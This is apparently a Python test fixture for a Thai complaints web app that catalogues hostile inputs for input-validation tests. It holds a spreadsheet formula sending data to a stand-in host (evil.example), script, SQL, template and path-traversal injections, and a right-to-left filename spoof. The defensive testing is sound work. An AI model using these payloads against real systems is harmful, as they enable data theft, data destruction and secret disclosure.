"""The hostile-input catalogue, generated here. Each entry says what must happen to it:

- REFUSE: never stored anywhere; the answer is a 400/413 or the form again with a Thai message.
- CLEAN: may be accepted, but what is stored is the normalised value (no invisible or control
  characters, NFC, ASCII digits where a number is meant) and it is shown escaped.
"""

from __future__ import annotations

REFUSE = {
    "NUL": "ไฟ\x00ดับ",
    "control characters": "ไฟ\x07ดับ\x1b[31m",
    "RLO override": "ใบแจ้ง\u202eexe.fdp",
    "bidi isolate": "ถนน\u2067ชำรุด\u2069",
    "combining-mark flood": "ก" + "\u0e48\u0e49\u0e4a\u0e4b" * 40,
    "10 kB string": "A" * 10_240,
}
CLEAN = {
    "zero-width characters": "สม\u200bชาย\u200c\u200d\ufeff",
    "Thai digits": "๐๘๑๒๓๔๕๖๗๘",
    "emoji": "🚧 ถนนพัง 👷\u200d♀️🇹🇭",
    "decomposed (NFD)": "Cafe\u0301 ถนน",
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"คลิก")',
    "HTML injection": '<script>alert(1)</script><img src=x onerror="alert(2)">',
    "SQL injection": "'; DROP TABLE complaints_complaint; --",
    "NaN": "NaN",
    "Infinity": "-Infinity",
    "huge number": "9" * 40,
    "path traversal": "../../../../etc/passwd",
    "template injection": "{{ settings.SECRET_KEY }}{% debug %}",
}
NUMERIC_REFUSE = ("NaN", "Infinity")  # in a number field these must be refused too

# What must never be found in a stored value.
FORBIDDEN_STORED = ("\x00", "\x07", "\x1b", "\x85", "\u202e", "\u2067", "\u2069")


def deep_json(depth: int = 5000) -> str:
    return "[" * depth + "]" * depth


def all_values() -> dict[str, str]:
    return {**REFUSE, **CLEAN}
